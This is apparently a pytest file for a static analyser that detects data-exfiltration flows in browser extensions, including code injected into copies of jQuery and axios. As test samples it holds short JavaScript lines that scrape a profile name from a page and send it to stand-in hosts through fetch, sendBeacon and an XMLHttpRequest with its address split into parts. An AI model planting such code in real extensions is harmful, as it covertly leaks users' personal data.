"""Published libraries are left to the models; with one byte changed they are analysed, and the same flow is found.

The libraries are those that `npm ci` puts into `tests/node`; nothing of them is run.
"""

from collections.abc import Callable, Mapping
from typing import Final

import pytest

from skimtrace.extension.load import load_extension
from skimtrace.flow.analyse import load_program
from skimtrace.flow.model import Analysis
from tests.extension.made import bundle_of
from tests.flow.made import SITE, analysed, told, with_manifest
from tests.needs import NODE

USES: Final[Mapping[str, str]] = {
    "jquery/dist/jquery.js": """const name = $(".pv-top-card__name").text();
$.ajax({url: "https://a.example/in", method: "POST", data: {name: name}});
""",
    "axios/dist/axios.js": """const name = document.querySelector(".pv-top-card__name").textContent;
axios.post("https://a.example/in", {name: name});
""",
}
FLOW = "content.js:1 person.name -> content.js:2 body a.example https://a.example/in high"
VERSIONS = {"jquery/dist/jquery.js": "jquery 3.7.1", "axios/dist/axios.js": "axios 0.21.4"}


MANIFEST = {"content_scripts": [{"matches": [SITE], "js": ["library.js", "content.js"]}]}


def using(library: str, use: str) -> Analysis:
    return analysed({"library.js": library, "content.js": use, "manifest.json": MANIFEST})


def entered(library: str) -> list[str]:
    """The files whose code the analysis goes through."""
    bundle = bundle_of(with_manifest({"library.js": library, "content.js": "start();", "manifest.json": MANIFEST}))
    program, _, _ = load_program(bundle, load_extension(bundle))
    return [unit.file for unit in program.units]


@pytest.mark.node
@pytest.mark.parametrize("file", USES)
def test_a_flow_through_a_published_library_is_found_without_analysing_it(file: str) -> None:
    text = (NODE / "node_modules" / file).read_text("utf-8")
    analysis = using(text, USES[file])
    script = analysis.scripts[0]
    assert (script.file, script.library, script.modified_copy_of) == ("library.js", VERSIONS[file], None)
    assert told(analysis) == [FLOW]
    assert analysis.limits == ()
    assert entered(text) == ["content.js"]


@pytest.mark.node
@pytest.mark.parametrize("file", USES)
def test_with_one_byte_changed_it_is_analysed_and_called_modified(file: str) -> None:
    text = (NODE / "node_modules" / file).read_text("utf-8")
    changed = text.replace("(", "( ", 1)
    analysis = using(changed, USES[file])
    script = analysis.scripts[0]
    assert (script.file, script.library, script.modified_copy_of) == ("library.js", None, VERSIONS[file])
    assert FLOW in told(analysis)
    assert entered(changed) == ["library.js", "content.js"]


THIEVES: Final[Mapping[str, Callable[[str], str]]] = {
    "a name, by fetch": lambda text: f"fetch('https://c.example/?' + {text});",
    "a name, by an address in parts": lambda text: (
        f"var x = new XMLHttpRequest(); x.open('GET', ['https:/', 'c.example/?'].join('/') + {text}); x.send();"
    ),
}


@pytest.mark.node
@pytest.mark.parametrize("thief", THIEVES)
def test_what_is_added_to_a_published_library_is_found(thief: str) -> None:
    text = (NODE / "node_modules" / "jquery/dist/jquery.js").read_text("utf-8")
    first = '"use strict";'
    place = text.index(first, text.index("noGlobal")) + len(first)
    line = text.count("\n", 0, place) + 1
    added = THIEVES[thief]('document.querySelector(".pv-top-card__name").textContent')
    analysis = using(text[:place] + added + text[place:], USES["jquery/dist/jquery.js"])
    assert analysis.scripts[0].modified_copy_of == "jquery 3.7.1"
    assert FLOW in told(analysis)
    places = [f"library.js:{line} person.name -> library.js:{line} url c.example https://c.example/?{{…}} high"]
    assert [flow for flow in told(analysis) if "c.example" in flow] == places


# jQuery as its first version and bundlers write it: the prototype holds the version itself.
COPY = """(function (w) {
  var jq = function (s) { return new jq.fn.init(s); };
  jq.fn = jq.prototype = {jquery: "1.7.1", constructor: jq, toArray: function () {}, pushStack: function () {}};
  jq.ajax = function (o) { new XMLHttpRequest().send(o); };
  ADDED
  w.$ = jq;
})(window);
"""
NAME = 'document.querySelector(".pv-top-card__name").textContent'


@pytest.mark.parametrize(
    ("added", "flow"),
    [
        (f'w.fetch("https://c.example/?" + {NAME});', "url c.example https://c.example/?{…}"),
        (f'w.navigator.sendBeacon("//c.example/in", {NAME});', "body c.example //c.example/in"),
        (
            f'var x = new XMLHttpRequest(); x.open("GET", ["https:/", "c.example/?"].join("/") + {NAME}); x.send();',
            "url c.example https://c.example/?{…}",
        ),
    ],
)
def test_code_under_the_name_of_a_copy_in_a_bundle_is_analysed(added: str, flow: str) -> None:
    found = told(analysed({"content.js": COPY.replace("ADDED", added)}))
    assert [line.split(" -> ")[1].split(" ", 1)[1].rpartition(" ")[0] for line in found] == [flow]


@pytest.mark.parametrize(
    "added",
    [
        "var place = location.href;",
        'if (location.protocol === "http:") { jq.ajax(location.protocol + "//" + location.host); }',
    ],
)
def test_what_jquery_itself_names_is_not_told(added: str) -> None:
    assert told(analysed({"content.js": COPY.replace("ADDED", added)})) == []
